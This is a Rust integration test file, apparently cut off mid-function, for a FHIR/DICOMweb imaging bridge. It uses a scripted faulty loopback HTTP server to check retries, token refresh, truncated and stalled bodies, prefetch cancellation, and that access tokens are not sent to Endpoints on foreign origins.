//! Faults a real server cannot be made to show on demand, served by `FaultyServer`, a
//! deliberately misbehaving HTTP server on loopback that answers from a script and records what
//! it received: 503 + Retry-After, 401 until a fresh token arrives, truncated multipart bodies,
//! stalled bodies and silent servers, an Endpoint on a foreign origin or at an address no
//! browser fetches, a `next` link to another origin, an Endpoint that contradicts the
//! configured DICOMweb base, and STOW-RS answers of 409, 202 with warnings and a 500 between
//! batches.
#![cfg(not(target_arch = "wasm32"))]
#![allow(clippy::unwrap_used, clippy::expect_used)] // a test: a panic is its failure

use emr_imaging::bridge::{BridgeConfig, BridgeError, ImagingBridge, Source, Study};
use emr_imaging::dicomweb::DicomWebError;
use emr_imaging::fhir::{FhirError, StudyFilter};
use emr_imaging::net::native::{block_on, UreqTransport};
use emr_imaging::net::{AuthMapper, CancelToken, HttpClient, NetError, Request, Response, Timeouts, TokenProvider, Transport};
use emr_imaging::session::{Screen, Session, SessionConfig, SessionError, Update};
use std::cell::{Cell, RefCell};
use std::rc::Rc;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use url::Url;

/// What the faulty server saw: method, path with query, Authorization header, arrival time.
#[derive(Debug, Clone)]
struct Seen {
    path: String,
    authorization: Option<String>,
    at: Instant,
    headers: Vec<(String, String)>,
}

impl Seen {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
    }
}

/// One scripted answer: status, headers, body, an optional silence before anything is sent
/// (the connection accepted, then nothing), and an optional stall before the body's end.
#[derive(Clone)]
struct Answer {
    status: u16,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
    silence: Option<Duration>,
    stall: Option<Duration>,
}

fn answer(status: u16, body: &str) -> Answer {
    Answer {
        status,
        headers: vec![("Content-Type", "application/json".into())],
        body: body.as_bytes().to_vec(),
        silence: None,
        stall: None,
    }
}

type Script = Arc<dyn Fn(&str, Option<&str>, usize) -> Answer + Send + Sync>;

/// A deliberately faulty server: `script(path, authorization, nth request to this path)`.
struct FaultyServer {
    port: u16,
    seen: Arc<Mutex<Vec<Seen>>>,
    server: Arc<tiny_http::Server>,
}

impl FaultyServer {
    fn start(script: Script) -> FaultyServer {
        let server = Arc::new(tiny_http::Server::http("127.0.0.1:0").expect("bind"));
        let port = server.server_addr().to_ip().expect("ip").port();
        let seen = Arc::new(Mutex::new(Vec::<Seen>::new()));
        for _ in 0..4 {
            let (server, seen, script) = (server.clone(), seen.clone(), script.clone());
            std::thread::spawn(move || {
                while let Ok(request) = server.recv() {
                    let path = request.url().to_string();
                    let authorization =
                        request.headers().iter().find(|h| h.field.equiv("Authorization")).map(|h| h.value.as_str().to_string());
                    let all_headers: Vec<(String, String)> =
                        request.headers().iter().map(|h| (h.field.as_str().to_string(), h.value.as_str().to_string())).collect();
                    let nth = {
                        let mut seen = seen.lock().unwrap();
                        let nth = seen.iter().filter(|s| s.path == path).count();
                        seen.push(Seen {
                            path: path.clone(),
                            authorization: authorization.clone(),
                            at: Instant::now(),
                            headers: all_headers,
                        });
                        nth
                    };
                    let a = script(&path, authorization.as_deref(), nth);
                    if let Some(silence) = a.silence {
                        std::thread::sleep(silence);
                    }
                    let headers: Vec<tiny_http::Header> =
                        a.headers.iter().map(|(k, v)| tiny_http::Header::from_bytes(k.as_bytes(), v.as_bytes()).unwrap()).collect();
                    // A stalling body promises twice what it sends, so the client keeps waiting.
                    let (body, length): (Box<dyn std::io::Read + Send>, usize) = match a.stall {
                        Some(stall) => (Box::new(StallingBody { head: a.body.clone(), stall, done: false }), a.body.len() * 2),
                        None => (Box::new(std::io::Cursor::new(a.body.clone())), a.body.len()),
                    };
                    let response = tiny_http::Response::new(a.status.into(), headers, body, Some(length), None);
                    let _ = request.respond(response);
                }
            });
        }
        FaultyServer { port, seen, server }
    }

    fn url(&self, path: &str) -> Url {
        Url::parse(&format!("http://127.0.0.1:{}{path}", self.port)).unwrap()
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }
}

impl Drop for FaultyServer {
    fn drop(&mut self) {
        self.server.unblock();
    }
}

/// Sends its head, then stalls: a body that never completes.
struct StallingBody {
    head: Vec<u8>,
    stall: Duration,
    done: bool,
}

impl std::io::Read for StallingBody {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        if !self.done {
            self.done = true;
            let n = self.head.len().min(buf.len());
            buf[..n].copy_from_slice(&self.head[..n]);
            return Ok(n);
        }
        std::thread::sleep(self.stall);
        Err(std::io::Error::other("stalled"))
    }
}

fn client(server: &FaultyServer, token: Option<&str>) -> HttpClient<UreqTransport> {
    let auth = AuthMapper::new(&server.url("/fhir/"), &[]);
    auth.set_token(token.map(str::to_string));
    HttpClient::new(UreqTransport::new(), auth).with_timeouts(Timeouts::all(Duration::from_secs(3)))
}

#[test]
fn a_503_with_retry_after_is_waited_out_then_succeeds() {
    let server = FaultyServer::start(Arc::new(|_, _, nth| {
        if nth == 0 {
            let mut a = answer(503, "busy fetching from the archive");
            a.headers.push(("Retry-After", "1".into()));
            a
        } else {
            answer(200, "{}")
        }
    }));
    let response = block_on(client(&server, None).get(server.url("/fhir/Patient/1"), "application/json")).expect("second try succeeds");
    assert_eq!(response.status, 200);
    let seen = server.seen();
    assert_eq!(seen.len(), 2);
    assert!(seen[1].at - seen[0].at >= Duration::from_millis(950), "waited the Retry-After second");
}

#[test]
fn a_retry_after_beyond_the_cap_is_returned_not_waited() {
    let server = FaultyServer::start(Arc::new(|_, _, _| {
        let mut a = answer(503, "");
        a.headers.push(("Retry-After", "3600".into()));
        a
    }));
    let err = block_on(client(&server, None).get(server.url("/fhir/x"), "application/json")).unwrap_err();
    assert!(matches!(err, NetError::Status { status: 503, .. }), "{err}");
    assert_eq!(server.seen().len(), 1);
}

#[test]
fn client_errors_are_not_retried_and_carry_the_servers_text() {
    let server = FaultyServer::start(Arc::new(|_, _, _| {
        answer(
            404,
            r#"{"resourceType":"OperationOutcome","issue":[{"severity":"error","code":"not-found","diagnostics":"Patient/9 is gone"}]}"#,
        )
    }));
    let err = block_on(client(&server, Some("t")).get(server.url("/fhir/Patient/9"), "application/json")).unwrap_err();
    assert_eq!(server.seen().len(), 1);
    // net keeps what the server said; fhir reads the OperationOutcome out of it.
    assert!(matches!(&err, NetError::Status { status: 404, detail: Some(body), .. } if body.contains("\"diagnostics\"")), "{err}");
    let fhir = emr_imaging::fhir::FhirError::from(err);
    assert!(
        matches!(&fhir, emr_imaging::fhir::FhirError::Net(NetError::Status { status: 404, detail: Some(text), .. }) if text == "Patient/9 is gone"),
        "{fhir}"
    );
}

#[test]
fn a_401_asks_the_token_provider_once_and_resends_with_the_fresh_token() {
    let server = FaultyServer::start(Arc::new(|_, authorization, _| match authorization {
        Some("Bearer fresh") => answer(200, "{}"),
        _ => answer(401, ""),
    }));
    let http = client(&server, Some("expired"));
    let calls = Arc::new(Mutex::new(0));
    let counter = calls.clone();
    let provider: TokenProvider = std::rc::Rc::new(move || {
        *counter.lock().unwrap() += 1;
        Box::pin(async { Some("fresh".to_string()) })
    });
    http.auth().set_provider(Some(provider));
    block_on(http.get(server.url("/fhir/Patient/1"), "application/json")).expect("succeeds after refresh");
    assert_eq!(*calls.lock().unwrap(), 1);
    let seen: Vec<Option<String>> = server.seen().into_iter().map(|s| s.authorization).collect();
    assert_eq!(seen, [Some("Bearer expired".into()), Some("Bearer fresh".into())]);
}

/// A provider set without a token (the host's `setToken(provider)`): the first request waits
/// for the provider instead of going out bare, and a foreign origin never triggers it.
#[test]
fn a_provider_without_a_token_is_asked_before_the_first_request() {
    let server = FaultyServer::start(Arc::new(|_, _, _| answer(200, "{}")));
    let http = client(&server, None);
    let calls = Arc::new(Mutex::new(0));
    let counter = calls.clone();
    let provider: TokenProvider = std::rc::Rc::new(move || {
        *counter.lock().unwrap() += 1;
        Box::pin(async { Some("from-provider".to_string()) })
    });
    http.auth().set_provider(Some(provider));
    block_on(http.get(server.url("/fhir/Patient/1"), "application/json")).expect("succeeds");
    block_on(http.get(server.url("/fhir/Patient/2"), "application/json")).expect("succeeds");
    assert_eq!(*calls.lock().unwrap(), 1, "asked once, then the token is reused");
    let seen: Vec<Option<String>> = server.seen().into_iter().map(|s| s.authorization).collect();
    assert_eq!(seen, [Some("Bearer from-provider".into()), Some("Bearer from-provider".into())]);

    let foreign = FaultyServer::start(Arc::new(|_, _, _| answer(200, "{}")));
    let http = client(&server, None);
    let counter = calls.clone();
    http.auth().set_provider(Some(std::rc::Rc::new(move || {
        *counter.lock().unwrap() += 1;
        Box::pin(async { Some("never-sent".to_string()) })
    })));
    block_on(http.get(foreign.url("/fhir/Patient/1"), "application/json")).expect("succeeds");
    assert_eq!(*calls.lock().unwrap(), 1, "a request to a foreign origin does not ask the provider");
    assert_eq!(foreign.seen()[0].authorization, None);
}

#[test]
fn a_provider_that_cannot_help_ends_in_the_401() {
    let server = FaultyServer::start(Arc::new(|_, _, _| answer(401, "")));
    let http = client(&server, Some("expired"));
    let provider: TokenProvider = std::rc::Rc::new(|| Box::pin(async { Some("expired".to_string()) }));
    http.auth().set_provider(Some(provider));
    let err = block_on(http.get(server.url("/fhir/Patient/1"), "application/json")).unwrap_err();
    assert!(matches!(err, NetError::Status { status: 401, .. }));
    assert_eq!(server.seen().len(), 1, "no loop when the provider has nothing new");
}

#[test]
fn a_stalled_body_is_a_timeout_not_a_hang() {
    let server = FaultyServer::start(Arc::new(|_, _, _| {
        let mut a = answer(200, "[");
        a.stall = Some(Duration::from_secs(20));
        a
    }));
    let http = client(&server, None).with_retry(emr_imaging::net::RetryPolicy { max_attempts: 1, ..Default::default() });
    let err = block_on(http.get(server.url("/fhir/slow"), "application/json")).unwrap_err();
    assert!(matches!(err, NetError::Timeout { .. }), "{err}");
}

/// A FHIR server whose study names an Endpoint on another origin (the "PACS" server).
fn fhir_script(pacs_port: u16) -> Script {
    Arc::new(move |path, _, _| {
        let path = path.split('?').next().unwrap_or_default().to_string();
        match path.as_str() {
            "/fhir/ImagingStudy" => answer(
                200,
                &serde_json::json!({"resourceType": "Bundle", "type": "searchset", "entry": [{"resource": {
                    "resourceType": "ImagingStudy", "id": "s1",
                    "identifier": [{"system": "urn:dicom:uid", "value": "urn:oid:1.2.3"}],
                    "subject": {"reference": "Patient/p1"},
                    "contained": [{"resourceType": "Endpoint", "id": "pacs", "status": "active",
                        "connectionType": {"code": "dicom-wado-rs"},
                        "address": format!("http://127.0.0.1:{pacs_port}/dicom-web")}],
                    "endpoint": [{"reference": "#pacs"}],
                    "series": [{"uid": "1.2.3.4", "instance": [{"uid": "1.2.3.4.5", "number": 1}]}]}}]})
                .to_string(),
            ),
            _ => answer(404, ""),
        }
    })
}

fn bridge(fhir: &FaultyServer) -> ImagingBridge<UreqTransport> {
    let config = BridgeConfig { memory_budget: 1 << 20, ..BridgeConfig::new(fhir.url("/fhir/")) };
    let bridge = ImagingBridge::new(UreqTransport::with_timeout(Duration::from_secs(5)), &config);
    bridge.set_token(Some("secret-token".into()));
    bridge
}

#[test]
fn an_endpoint_on_a_foreign_origin_gets_no_token() {
    let pacs = FaultyServer::start(Arc::new(|_, _, _| answer(200, "[]")));
    let fhir = FaultyServer::start(fhir_script(pacs.port));
    let studies = block_on(bridge(&fhir).get_patient_studies("p1")).expect("studies");
    assert_eq!(studies.len(), 1);
    assert!(fhir.seen().iter().all(|s| s.authorization.as_deref() == Some("Bearer secret-token")), "FHIR got the token");
    let pacs_seen = pacs.seen();
    assert!(!pacs_seen.is_empty(), "the PACS was asked (QIDO enrichment)");
    assert!(pacs_seen.iter().all(|s| s.authorization.is_none()), "the foreign PACS never saw the token: {pacs_seen:?}");
}

#[test]
fn a_truncated_multipart_instance_is_a_typed_error_and_nothing_is_cached() {
    let pacs = FaultyServer::start(Arc::new(|path, _, nth| {
        if path.contains("/instances/") && nth == 0 {
            let mut a = answer(200, "--b\r\nContent-Type: application/dicom\r\n\r\nDICM partial bytes");
            a.headers = vec![("Content-Type", "multipart/related; type=\"application/dicom\"; boundary=b".into())];
            a
        } else if path.contains("/instances/") {
            let mut a = answer(200, "--b\r\nContent-Type: application/dicom\r\n\r\nWHOLE\r\n--b--\r\n");
            a.headers = vec![("Content-Type", "multipart/related; type=\"application/dicom\"; boundary=b".into())];
            a
        } else {
            answer(200, "[]")
        }
    }));
    let fhir = FaultyServer::start(fhir_script(pacs.port));
    let bridge = bridge(&fhir);
    let studies = block_on(bridge.get_patient_studies("p1")).unwrap();
    let err = block_on(bridge.get_instance(&studies[0], "1.2.3.4", "1.2.3.4.5", &CancelToken::new())).unwrap_err();
    assert!(matches!(err, BridgeError::DicomWeb(DicomWebError::Multipart(_))), "{err}");
    let whole = block_on(bridge.get_instance(&studies[0], "1.2.3.4", "1.2.3.4.5", &CancelToken::new())).expect("second answer is whole");
    assert_eq!(whole.as_slice(), b"WHOLE");
    let fetches = pacs.seen().iter().filter(|s| s.path.contains("/instances/")).count();
    assert_eq!(fetches, 2, "the truncated answer was not cached");
}

fn multipart(body: &str) -> Answer {
    let mut a = answer(200, body);
    a.headers = vec![("Content-Type", "multipart/related; type=\"application/dicom\"; boundary=b".into())];
    a
}

/// A FHIR server whose study has a study-level Endpoint on `study_pacs` (with header templates
/// and `requires-access-token: false`) and whose series 1.2.3.9 has its own Endpoint on
/// `series_pacs` (with a token template but no extension).
fn fhir_with_endpoint_headers(study_pacs: u16, series_pacs: u16) -> Script {
    Arc::new(move |path, _, _| {
        let path = path.split('?').next().unwrap_or_default().to_string();
        let endpoint = |id: &str, port: u16, extension: serde_json::Value| {
            serde_json::json!({"resourceType": "Endpoint", "id": id, "status": "active",
                "connectionType": [{"coding": [{"code": "dicom-wado-rs"}]}],
                "address": format!("http://127.0.0.1:{port}/dicom-web/studies/1.2.3"),
                "header": ["X-Api-Key: k1", "X-Token: {token}", "Authorization: Bearer {token}"],
                "extension": extension})
        };
        match path.as_str() {
            "/fhir/ImagingStudy" => answer(
                200,
                &serde_json::json!({"resourceType": "Bundle", "type": "searchset", "entry": [
                    {"resource": {
                        "resourceType": "ImagingStudy", "id": "s1",
                        "identifier": [{"system": "urn:dicom:uid", "value": "urn:oid:1.2.3"}],
                        "subject": {"reference": "Patient/p1"},
                        "endpoint": [{"reference": "Endpoint/study-pacs"}],
                        "series": [
                            {"uid": "1.2.3.4", "instance": [{"uid": "1.2.3.4.5", "number": 1}]},
                            {"uid": "1.2.3.9", "endpoint": [{"reference": "Endpoint/series-pacs"}],
                             "instance": [{"uid": "1.2.3.9.1", "number": 1}]}]}},
                    {"fullUrl": format!("http://127.0.0.1:{study_pacs}/unused"), "search": {"mode": "include"},
                     "resource": endpoint("study-pacs", study_pacs, serde_json::json!([{"url":
                        "http://hl7.org/fhir/smart-app-launch/StructureDefinition/requires-access-token", "valueBoolean": false}]))}]})
                .to_string(),
            ),
            // Not included by the search: read on demand.
            "/fhir/Endpoint/series-pacs" => answer(200, &endpoint("series-pacs", series_pacs, serde_json::json!([])).to_string()),
            _ => answer(404, ""),
        }
    })
}

#[test]
fn endpoint_headers_requires_access_token_and_series_level_endpoints() {
    let whole = |path: &str, _: Option<&str>, _| {
        if path.contains("/instances/") {
            multipart("--b\r\n\r\nWHOLE\r\n--b--")
        } else {
            answer(200, "[]")
        }
    };
    let study_pacs = FaultyServer::start(Arc::new(whole));
    let series_pacs = FaultyServer::start(Arc::new(whole));
    let fhir = FaultyServer::start(fhir_with_endpoint_headers(study_pacs.port, series_pacs.port));
    // Both PACS origins are allowed by the host; the study's Endpoint still declines the token.
    let config = BridgeConfig {
        allowed_origins: vec![study_pacs.url("/").to_string(), series_pacs.url("/").to_string()],
        memory_budget: 1 << 20,
        ..BridgeConfig::new(fhir.url("/fhir/"))
    };
    let bridge = ImagingBridge::new(UreqTransport::with_timeout(Duration::from_secs(5)), &config);
    bridge.set_token(Some("secret-token".into()));
    let studies = block_on(bridge.get_patient_studies("p1")).expect("studies");
    let study = &studies[0];
    assert_eq!(study.dicomweb_base.as_deref(), Some(study_pacs.url("/dicom-web").as_str()), "the /studies/{{uid}} tail is not doubled");
    block_on(bridge.get_instance(study, "1.2.3.4", "1.2.3.4.5", &CancelToken::new())).expect("study-level instance");
    block_on(bridge.get_instance(study, "1.2.3.9", "1.2.3.9.1", &CancelToken::new())).expect("series-level instance");
    // Metadata, rendered and thumbnail requests are built like the others: same headers, same
    // token rule (their answers here are not JSON or JPEG; only what was sent matters).
    let client = bridge.client_for_series(study, Some("1.2.3.4")).expect("client");
    let _ = block_on(client.instance_metadata(bridge.http(), "1.2.3", "1.2.3.4", "1.2.3.4.5"));
    let _ = block_on(client.retrieve_rendered(bridge.http(), "1.2.3", "1.2.3.4", "1.2.3.4.5", None));
    let _ = block_on(client.retrieve_thumbnail(bridge.http(), "1.2.3", Some("1.2.3.4"), None));

    let at_study: Vec<Seen> = study_pacs.seen();
    for tail in ["/instances/1.2.3.4.5/metadata", "/instances/1.2.3.4.5/rendered", "/series/1.2.3.4/thumbnail"] {
        assert!(at_study.iter().any(|s| s.path.ends_with(tail)), "{tail} asked: {at_study:?}");
    }
    assert!(at_study.iter().any(|s| s.path.ends_with("/dicom-web/studies/1.2.3/series")), "QIDO at the study's PACS: {at_study:?}");
    assert!(at_study.iter().any(|s| s.path.contains("/series/1.2.3.4/instances/1.2.3.4.5")));
    assert!(!at_study.iter().any(|s| s.path.contains("1.2.3.9.1")), "the series-level Endpoint overrides the study's");
    for seen in &at_study {
        assert_eq!(seen.header("X-Api-Key"), Some("k1"), "static Endpoint.header is sent");
        assert_eq!(seen.authorization, None, "requires-access-token=false: no token");
        assert_eq!(seen.header("X-Token"), None, "nor in a template");
    }
    let at_series = series_pacs.seen();
    let fetch = at_series.iter().find(|s| s.path.contains("/series/1.2.3.9/instances/1.2.3.9.1")).expect("series PACS asked");
    assert_eq!(fetch.header("X-Token"), Some("secret-token"), "template filled for an allowed origin");
    assert_eq!(fetch.authorization.as_deref(), Some("Bearer secret-token"));
}

#[test]
fn header_templates_never_carry_the_token_to_a_foreign_origin() {
    let pacs = FaultyServer::start(Arc::new(|path: &str, _: Option<&str>, _| {
        if path.contains("/instances/") {
            multipart("--b\r\n\r\nWHOLE\r\n--b--")
        } else {
            answer(200, "[]")
        }
    }));
    let fhir = FaultyServer::start(fhir_with_endpoint_headers(pacs.port, pacs.port));
    let studies = block_on(bridge(&fhir).get_patient_studies("p1")).expect("studies");
    block_on(bridge(&fhir).get_instance(&studies[0], "1.2.3.9", "1.2.3.9.1", &CancelToken::new())).expect("instance");
    let seen = pacs.seen();
    assert!(!seen.is_empty());
    for s in &seen {
        assert_eq!(s.authorization, None, "{s:?}");
        assert!(s.headers.iter().all(|(_, v)| !v.contains("secret-token")), "no header carries the token: {s:?}");
    }
}

/// Counts instance requests and cancels the bridge's work after the `after`-th: the user
/// moving on while a prefetch runs.
struct CancellingTransport {
    inner: UreqTransport,
    work: Rc<RefCell<Option<CancelToken>>>,
    after: usize,
    sent: std::cell::Cell<usize>,
}

impl Transport for CancellingTransport {
    async fn send(&self, request: Request) -> Result<Response, NetError> {
        let is_instance = request.url.path().contains("/instances/");
        let response = self.inner.send(request).await;
        if is_instance {
            self.sent.set(self.sent.get() + 1);
            if self.sent.get() == self.after {
                if let Some(work) = self.work.borrow().as_ref() {
                    work.cancel();
                }
            }
        }
        response
    }
    async fn sleep(&self, duration: Duration) {
        self.inner.sleep(duration).await
    }
    fn now_unix(&self) -> f64 {
        self.inner.now_unix()
    }
    fn jitter(&self) -> f64 {
        self.inner.jitter()
    }
}

#[test]
fn a_prefetch_runs_in_display_order_and_stale_work_is_dropped() {
    // QIDO lists the instances out of order; display order is by InstanceNumber.
    let pacs = FaultyServer::start(Arc::new(|path: &str, _: Option<&str>, _| {
        if path.ends_with("/instances") {
            let items: Vec<serde_json::Value> = [5, 2, 4, 1, 3]
                .iter()
                .map(|n| {
                    serde_json::json!({"00080018": {"vr": "UI", "Value": [format!("1.2.3.7.{n}")]},
                    "00200013": {"vr": "IS", "Value": [n]}})
                })
                .collect();
            answer(200, &serde_json::Value::Array(items).to_string())
        } else if path.contains("/instances/") {
            multipart("--b\r\n\r\nSLICE\r\n--b--")
        } else {
            answer(200, r#"[{"0020000E":{"vr":"UI","Value":["1.2.3.7"]},"00200011":{"vr":"IS","Value":[1]}}]"#)
        }
    }));
    let fhir = FaultyServer::start(fhir_script(pacs.port));
    let work = Rc::new(RefCell::new(None));
    let transport = CancellingTransport {
        inner: UreqTransport::with_timeout(Duration::from_secs(5)),
        work: work.clone(),
        after: 3,
        sent: Default::default(),
    };
    let config = BridgeConfig { memory_budget: 1 << 20, ..BridgeConfig::new(fhir.url("/fhir/")) };
    let bridge = ImagingBridge::new(transport, &config);
    let studies = block_on(bridge.get_patient_studies("p1")).expect("studies");
    let series = studies[0].series.iter().find(|s| s.uid == "1.2.3.7").expect("QIDO series").clone();
    let token = CancelToken::new();
    *work.borrow_mut() = Some(token.clone());
    let report = block_on(bridge.prefetch_series(&studies[0], &series, &token, &mut |_| true)).expect("prefetch");
    assert_eq!(report.instances, 5);
    assert!(report.cancelled);
    assert_eq!(report.cached, 2, "the request in flight when the user moved on is not cached: {report:?}");
    assert!(report.failed.is_empty(), "{report:?}");
    let fetched: Vec<String> =
        pacs.seen().iter().filter(|s| s.path.contains("/instances/")).map(|s| s.path.rsplit('/').next().unwrap().to_string()).collect();
    assert_eq!(fetched, ["1.2.3.7.1", "1.2.3.7.2", "1.2.3.7.3"], "display order, and nothing after the cancel");
    // New work after the cancel runs normally; the cached two are served from memory.
    let again = block_on(bridge.prefetch_series(&studies[0], &series, &CancelToken::new(), &mut |_| true)).expect("prefetch again");
    assert_eq!((again.cached, again.cancelled), (5, false));
    let total = pacs.seen().iter().filter(|s| s.path.contains("/instances/")).count();
    assert_eq!(total, 3 + 3, "only the three not cached are fetched again");
}

#[test]
fn a_streamed_series_retrieve_delivers_whole_instances_then_reports_the_truncation() {
    let pacs = FaultyServer::start(Arc::new(|_: &str, _: Option<&str>, _| {
        multipart("--b\r\nContent-Type: application/dicom\r\n\r\nONE\r\n--b\r\nContent-Type: application/dicom\r\n\r\nTWO\r\n--b\r\nContent-Type: application/dicom\r\n\r\nTHR")
    }));
    let http = client(&pacs, None);
    let dicomweb = emr_imaging::dicomweb::DicomWebClient::new(&pacs.url("/dicom-web"));
    let mut got = Vec::new();
    let err = block_on(dicomweb.retrieve_series(&http, "1.2", "1.2.3", None, &mut |r| got.push(r.bytes))).unwrap_err();
    assert!(matches!(err, DicomWebError::Multipart(emr_imaging::dicomweb::multipart::MultipartError::Truncated)), "{err}");
    assert_eq!(got, [b"ONE".to_vec(), b"TWO".to_vec()], "complete parts only, never the cut one");
}

/// A connection that breaks midway through every body it streams: the headers, two whole
/// parts and the start of a third reach the sink, then the read fails.
#[derive(Default)]
struct BreakingTransport {
    attempts: Cell<usize>,
}

impl Transport for BreakingTransport {
    async fn send(&self, request: Request) -> Result<Response, NetError> {
        Err(NetError::Unreachable { url: request.url.to_string(), message: "not streamed".into() })
    }
    async fn send_streaming(&self, request: Request, sink: &mut emr_imaging::net::BodySink<'_>) -> Result<Response, NetError> {
        self.attempts.set(self.attempts.get() + 1);
        let headers = vec![("content-type".to_string(), "multipart/related; type=\"application/dicom\"; boundary=b".to_string())];
        sink(
            &headers,
            b"--b\r\nContent-Type: application/dicom\r\n\r\nONE\r\n--b\r\nContent-Type: application/dicom\r\n\r\nTWO\r\n--b\r\n\r\nTH",
        );
        Err(NetError::Unreachable { url: request.url.to_string(), message: "connection reset".into() })
    }
    async fn sleep(&self, _: Duration) {}
    fn now_unix(&self) -> f64 {
        0.0
    }
    fn jitter(&self) -> f64 {
        0.0
    }
}

#[test]
fn a_streamed_series_broken_off_midway_is_not_sent_again_into_the_same_parts() {
    let transport = Rc::new(BreakingTransport::default());
    let base = Url::parse("http://pacs.test/dicom-web").unwrap();
    let http = HttpClient::new(transport.clone(), AuthMapper::new(&base, &[]));
    let dicomweb = emr_imaging::dicomweb::DicomWebClient::new(&base);
    let mut got = Vec::new();
    let err = block_on(dicomweb.retrieve_series(&http, "1.2", "1.2.3", None, &mut |r| got.push(r.bytes))).unwrap_err();
    assert!(matches!(err, DicomWebError::Net(NetError::Unreachable { .. })), "{err}");
    assert_eq!(transport.attempts.get(), 1, "not retried once its body had begun");
    assert_eq!(got, [b"ONE".to_vec(), b"TWO".to_vec()], "each part once, the broken one never");
}

/// Every update and failure a session shows.
#[derive(Default)]
struct Recorder {
    updates: RefCell<Vec<Update>>,
    failures: RefCell<Vec<SessionError>>,
}

impl Screen for Recorder {
    fn apply(&self, update: Update) {
        self.updates.borrow_mut().push(update);
    }
    fn failed(&self, error: &SessionError) {
        self.failures.borrow_mut().push(error.clone());
    }
}

impl Recorder {
    fn listed(&self) -> Vec<Study> {
        self.updates.borrow().iter().rev().find_map(|u| if let Update::Studies(s) = u { Some(s.clone()) } else { None }).unwrap_or_default()
    }
}

/// The native transport, recording every URL that reached it and every wait (a retry's backoff).
struct Recording {
    inner: UreqTransport,
    sent: RefCell<Vec<String>>,
    sleeps: Cell<usize>,
}

impl Recording {
    fn new() -> Rc<Recording> {
        Rc::new(Recording { inner: UreqTransport::new(), sent: RefCell::default(), sleeps: Cell::new(0) })
    }
}

impl Transport for Recording {
    async fn send(&self, request: Request) -> Result<Response, NetError> {
        self.sent.borrow_mut().push(request.url.to_string());
        self.inner.send(request).await
    }
    async fn sleep(&self, duration: Duration) {
        self.sleeps.set(self.sleeps.get() + 1);
        self.inner.sleep(duration).await
    }
    fn now_unix(&self) -> f64 {
        self.inner.now_unix()
    }
    fn jitter(&self) -> f64 {
        self.inner.jitter()
    }
}

/// A PACS that knows one series per study and answers every instance with `WHOLE`.
fn whole_pacs() -> FaultyServer {
    FaultyServer::start(Arc::new(|path: &str, _: Option<&str>, _| {
        if path.ends_with("/series") {
            answer(200, r#"[{"0020000E":{"vr":"UI","Value":["1.2.3.4"]},"00200011":{"vr":"IS","Value":[1]}}]"#)
        } else if path.ends_with("/instances") {
            answer(200, r#"[{"00080018":{"vr":"UI","Value":["1.2.3.9.1"]},"00200013":{"vr":"IS","Value":[1]}}]"#)
        } else if path.ends_with("/metadata") {
            answer(200, r#"[{"00080018":{"vr":"UI","Value":["1.2.3.4.5"]}}]"#)
        } else if path.contains("/instances/") {
            multipart("--b\r\n\r\nWHOLE\r\n--b--")
        } else {
            answer(404, "")
        }
    }))
}

#[test]
fn a_configured_base_wins_over_a_conflicting_endpoint() {
    // The study's Endpoints (study level, included; series level, read on demand) name `elsewhere`.
    let elsewhere = FaultyServer::start(Arc::new(|_, _, _| answer(200, "[]")));
    let base = whole_pacs();
    let fhir = FaultyServer::start(fhir_with_endpoint_headers(elsewhere.port, elsewhere.port));
    let configured = base.url("/dicom-web");
    let config = BridgeConfig { dicomweb_base: Some(configured.clone()), ..BridgeConfig::new(fhir.url("/fhir/")) };
    let bridge = ImagingBridge::new(UreqTransport::new(), &config);
    bridge.set_token(Some("secret-token".into()));

    let studies = block_on(bridge.get_patient_studies("p1")).expect("studies");
    let study = &studies[0];
    assert_eq!(study.dicomweb_base.as_deref(), Some(configured.as_str()), "the Study names the server its images come from");
    assert_eq!(study.source, Source::Enriched, "enriched by the configured base");
    assert!(study.series.iter().all(|s| s.dicomweb_base.is_none()), "no series-level Endpoint overrides it");
    let json = serde_json::to_value(study).unwrap();
    assert_eq!((json["dicomwebBase"].as_str(), json["source"]["kind"].as_str()), (Some(configured.as_str()), Some("enriched")));

    block_on(bridge.get_instance(study, "1.2.3.4", "1.2.3.4.5", &CancelToken::new())).expect("study-level series");
    block_on(bridge.get_instance(study, "1.2.3.9", "1.2.3.9.1", &CancelToken::new())).expect("the series with its own Endpoint");
    let client = bridge.client_for_series(study, Some("1.2.3.9")).expect("client");
    block_on(client.search_instances(bridge.http(), "1.2.3", "1.2.3.9")).expect("QIDO instances");
    let _ = block_on(client.instance_metadata(bridge.http(), "1.2.3", "1.2.3.4", "1.2.3.4.5"));
    let _ = block_on(client.retrieve_thumbnail(bridge.http(), "1.2.3", Some("1.2.3.4"), None));

    assert!(elsewhere.seen().is_empty(), "nothing went to the Endpoints' server: {:?}", elsewhere.seen());
    assert!(!fhir.seen().iter().any(|s| s.path.contains("/Endpoint/")), "no Endpoint was even read");
    let at_base = base.seen();
    for tail in ["/studies/1.2.3/series", "/series/1.2.3.4/instances/1.2.3.4.5", "/series/1.2.3.9/instances/1.2.3.9.1"] {
        assert!(at_base.iter().any(|s| s.path.ends_with(tail)), "{tail} at the base: {at_base:?}");
    }
    for tail in ["/series/1.2.3.9/instances", "/instances/1.2.3.4.5/metadata", "/series/1.2.3.4/thumbnail"] {
        assert!(at_base.iter().any(|s| s.path.ends_with(tail)), "{tail} at the base: {at_base:?}");
    }
    for seen in &at_base {
        assert_eq!(
            seen.authorization.as_deref(),
            Some("Bearer secret-token"),
            "the host named the base: it gets the token ({})",
            seen.path
        );
        assert_eq!(seen.header("X-Api-Key"), None, "the Endpoint's headers belong to the Endpoint's server");
    }
}

/// A FHIR search whose first page has two studies and whose `next` link leads to `next_port`;
/// that server's page has a third.
fn paging_script(next_port: u16) -> Script {
    Arc::new(move |path, _, _| {
        let study = |id: &str, uid: &str| {
            serde_json::json!({"resource": {"resourceType": "ImagingStudy", "id": id, "started": format!("2024-01-0{}", uid.len() % 9),
                "identifier": [{"system": "urn:dicom:uid", "value": format!("urn:oid:{uid}")}], "subject": {"reference": "Patient/p1"}}})
        };
        if path.starts_with("/fhir/ImagingStudy?") && !path.contains("page=2") {
            answer(
                200,
                &serde_json::json!({"resourceType": "Bundle", "type": "searchset",
